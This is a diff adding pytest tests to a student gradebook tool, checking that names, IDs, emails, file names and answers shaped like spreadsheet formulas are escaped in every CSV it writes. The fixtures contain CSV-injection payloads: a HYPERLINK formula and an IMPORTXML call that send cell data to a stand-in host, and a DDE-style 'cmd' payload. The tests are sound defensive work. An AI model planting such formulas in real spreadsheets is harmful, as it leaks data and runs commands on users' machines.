@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import copy
 import csv
+import html
 import json
 import os
 import shutil
@@ -193,6 +194,156 @@ def test_similarity_with_a_function_starter_excludes_the_starter():
     pairs = similar_pairs({"ada": copied, "grace": copied.replace("exps", "e_x"), "alan": other, "stub": starter}, starter)
     assert pairs and pairs[0][:2] == ("ada", "grace") and pairs[0][2] > 0.9
     assert all("stub" not in (a, b) for a, b, *_ in pairs)
+
+
+# ---- spreadsheet formulas (OWASP's CSV injection) ----------------------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+LINK_FILE = '=HYPERLINK("x.test?leak="&E2&F2,"open").ipynb'  # no "/": it is a file name
+HOSTILE = {":name": '=HYPERLINK("x.test?leak="&E2&F2,"open")', ":sid": "+1+cmd|' /C calc'!A0", ":email": "@SUM(1+1)"}
+EVE = {":name": "=1+1 Eve", ":sid": "", ":email": "eve@uni.edu"}  # no SID: the sheet keys her row by name
+FORMULA_ANSWER = "=IMPORTXML(CONCAT(\"x.test?\",A2)) is not an answer"
+
+
+def _cells(path: Path) -> list[str]:
+    with open(path, newline="", encoding="utf-8-sig") as f:
+        return [cell for row in csv.reader(f) for cell in row]
+
+
+def _formula_cells(graded: Path) -> dict[str, list[str]]:
+    """Every cell of every CSV the gradebook wrote that a spreadsheet would run as a formula."""
+    found = {}
+    for path in sorted(graded.rglob("*.csv")):
+        bad = [cell for cell in _cells(path) if cell.startswith(FORMULA_STARTS)]
+        if bad:
+            found[str(path.relative_to(graded))] = bad
+    return found
+
+
+@pytest.fixture(scope="module")
+def hostile(release, tmp_path_factory):
+    """Two classes whose students write formulas: a folder with a notebook named =HYPERLINK(...), and a
+    Gradescope export naming a student =HYPERLINK(...) (SID +1+cmd|..., email @SUM(...)) and one =1+1 Eve
+    without a SID, whose q1 answer is a formula; both with a Canvas roster, where the first student's row
+    carries the SID as its SIS User ID."""
+    base = tmp_path_factory.mktemp("hostile")
+    solution, blank = _practice(release, "solution"), _practice(release, "blank")
+    (base / "folder").mkdir()
+    nbformat.write(solution, str(base / "folder" / LINK_FILE))
+    export = base / "export"
+    for key, nb in {"submission_1": solution, "submission_2": _answer(blank, "q1", FORMULA_ANSWER)}.items():
+        (export / key).mkdir(parents=True)
+        nbformat.write(nb, str(export / key / "practice.ipynb"))
+    metadata = {"submission_1": {":submitters": [HOSTILE], ":score": "23.0"},
+                "submission_2": {":submitters": [EVE], ":score": "0.0"}}
+    (export / "submission_metadata.yml").write_text(yaml.safe_dump(metadata, allow_unicode=True), encoding="utf-8")
+    roster = base / "canvas_export.csv"
+    with open(roster, "w", newline="", encoding="utf-8-sig") as f:
+        csv.writer(f).writerows([["Student", "ID", "SIS User ID", "SIS Login ID", "Section"],
+                                 ["Link, Mal", "601", HOSTILE[":sid"], "mal", "Sec 1"],
+                                 ["=1+1, Eve", "602", "E2", "eve", "-Sec 2"],
+                                 ["Nobody, Else", "603", "N3", "nobody", "Sec 1"]])
+    out, _ = release
+    zip_path = out / "autograder/practice-autograder.zip"
+    canvas = {"roster": roster, "assignment": "Practice 3.1 (222)"}
+    reports = {name: grade_batch(base / name, zip_path, base / f"graded-{name}", jobs=2, progress=False, canvas=canvas, **LIMITS)
+               for name in ("folder", "export")}
+    return base, reports
+
+
+def test_spreadsheet_cells_escape_text_formulas_and_keep_numbers(tmp_path):
+    from attn_ref.grade.spreadsheet import safe_cell, write_csv
+
+    assert safe_cell(-1.5) == "-1.5" and safe_cell(23.0) == "23" and safe_cell(0.25) == "0.25" and safe_cell(-3) == "-3"
+    assert safe_cell("-1.5") == "'-1.5"  # decided by type: text that reads as a number is still text
+    assert safe_cell("=1+1") == "'=1+1" and safe_cell("+1") == "'+1" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
+    assert safe_cell("\t=1+1") == "'\t=1+1" and safe_cell("\r=1+1") == "'\r=1+1"
+    assert safe_cell("Ana") == "Ana" and safe_cell("a=b") == "a=b" and safe_cell("") == "" and safe_cell(None) == ""
+    assert safe_cell(safe_cell("=1+1")) == "'=1+1"  # idempotent: a sheet read back compares equal
+    write_csv(tmp_path / "t.csv", ["name", "total", "=h"], [{"name": "=1+1", "total": -1.5}, ["Ana", 2.0, None]])
+    assert (tmp_path / "t.csv").read_bytes().startswith("\ufeff".encode())
+    assert _cells(tmp_path / "t.csv") == ["name", "total", "'=h", "'=1+1", "-1.5", "", "Ana", "2", ""]
+
+
+def test_gradebook_rows_hold_scores_as_numbers(tmp_path):
+    """Scores reach the CSV writer as numbers, so a negative one is never escaped into text."""
+    from attn_ref.grade.discover import Submission
+    from attn_ref.grade.gradebook import Gradebook, Graded
+
+    checks = {"assignment": "practice", "units": [{"name": "q1"}], "written": [{"question": "q2", "points": 1}]}
+    sub = Submission("s", tmp_path / "=s.ipynb", [{"name": "-Ana", "sid": "", "email": ""}])
+    (row,) = Gradebook(checks, [Graded(sub, {}, {"q1": -1.5}, {"q2_written": 0.5})]).rows
+    assert (row["q1"], row["q2_written"], row["total"]) == (-1.5, 0.5, -1.0)
+
+
+def test_a_file_name_that_is_a_formula_is_text_in_every_csv(hostile):
+    base, _ = hostile
+    graded = base / "graded-folder"
+    assert {p.name for p in graded.rglob("*.csv")} == {"grades.csv", "scores.csv", "canvas.csv", "canvas-unmatched.csv"}
+    assert _formula_cells(graded) == {}
+    (row,) = _csv(graded / "grades.csv")
+    assert row["submission"] == "'" + LINK_FILE and float(row["total"]) == 23 and row["total"] == "23"  # a number
+    (unmatched,) = _csv(graded / "canvas-unmatched.csv")
+    assert unmatched["submission"] == "'" + LINK_FILE and unmatched["reason"] == "no roster row has this SID or login"
+
+
+def test_export_names_sids_and_emails_that_are_formulas_are_text_and_ids_are_validated(hostile):
+    base, reports = hostile
+    graded = base / "graded-export"
+    assert _formula_cells(graded) == {}
+    rows = {r["name"]: r for r in _csv(graded / "grades.csv")}
+    link = rows["'" + HOSTILE[":name"]]
+    assert (link["sid"], link["email"]) == ("'" + HOSTILE[":sid"], "'" + HOSTILE[":email"])
+    assert float(link["total"]) == 23 and float(rows["'=1+1 Eve"]["total"]) == 0  # numbers stay numbers
+    sheet = {r["name"]: r for r in _csv(graded / "written" / "scores.csv")}
+    assert sheet["'" + HOSTILE[":name"]]["sid"] == "'" + HOSTILE[":sid"] and "'=1+1 Eve" in sheet
+    # canvas.csv: IDs are never escaped; the row whose SIS User ID is a formula is left out, its student listed
+    canvas = list(csv.reader(open(graded / "canvas.csv", newline="", encoding="utf-8-sig")))
+    assert canvas[2:] == [["'=1+1, Eve", "602", "E2", "eve", "'-Sec 2", "0"], ["Nobody, Else", "603", "N3", "nobody", "Sec 1", ""]]
+    (unmatched,) = _csv(graded / "canvas-unmatched.csv")
+    assert unmatched["name"] == "'" + HOSTILE[":name"] and unmatched["total"] == "23"
+    assert "roster row's SIS User ID" in unmatched["reason"] and "never escaped" in unmatched["reason"]
+    from attn_ref.grade.gradebook import summary_lines
+
+    lines = summary_lines(reports["export"].book)
+    assert any("1 roster row(s) left out (Link, Mal)" in line for line in lines)
+    assert any("1 student(s) match no roster row" in line and HOSTILE[":name"] in line for line in lines)
+
+
+def test_a_written_answer_that_is_a_formula_stays_on_its_page(hostile):
+    """Written answers go to the HTML pages (escaped), into no CSV: the sheet has IDs and scores only."""
+    base, _ = hostile
+    graded = base / "graded-export"
+    assert html.escape(FORMULA_ANSWER) in (graded / "written" / "q1.html").read_text()
+    assert not any(FORMULA_ANSWER.lstrip("=") in cell for path in graded.rglob("*.csv") for cell in _cells(path))
+
+
+def test_scores_typed_for_students_named_like_formulas_reach_the_gradebook(release, hostile):
+    """The sheet keys rows by submission and SID (or name): compared as the sheet holds them, with the
+    ' this wrote, or without it, as a spreadsheet may save the file."""
+    base, _ = hostile
+    out, _ = release
+    for name, scores in {"folder": {"HYPERLINK_x.test_leak_E2_F2_open": "1"},
+                         "export": {"'" + HOSTILE[":name"]: "1", "'=1+1 Eve": "0.5"}}.items():
+        sheet = base / f"graded-{name}" / "written" / "scores.csv"
+        rows = _csv(sheet)
+        for row in rows:
+            row["q1_written"] = scores[row["name"]]
+            if row["name"] == "'=1+1 Eve":  # saved without the ' by the TA's spreadsheet
+                row.update({k: v.removeprefix("'") for k, v in row.items()})
+        with open(sheet, "w", newline="", encoding="utf-8-sig") as f:
+            writer = csv.DictWriter(f, fieldnames=list(rows[0]))
+            writer.writeheader()
+            writer.writerows(rows)
+        again = grade_batch(base / name, out / "autograder/practice-autograder.zip", base / f"graded-{name}", jobs=1,
+                            progress=False, **LIMITS)
+        assert again.graded == 0
+        book = {r["name"]: r for r in _csv(base / f"graded-{name}" / "grades.csv")}
+        for who, score in scores.items():
+            assert book[who]["q1_written"] == score, (name, who)
+        assert {r["name"]: r["q1_written"] for r in _csv(sheet)} == scores  # kept, in the escaped form
+        assert _formula_cells(base / f"graded-{name}") == {}
+    assert book["'" + HOSTILE[":name"]]["total"] == "24"
 
 
 # ---- the command ---------------------------------------------------------------------------------------
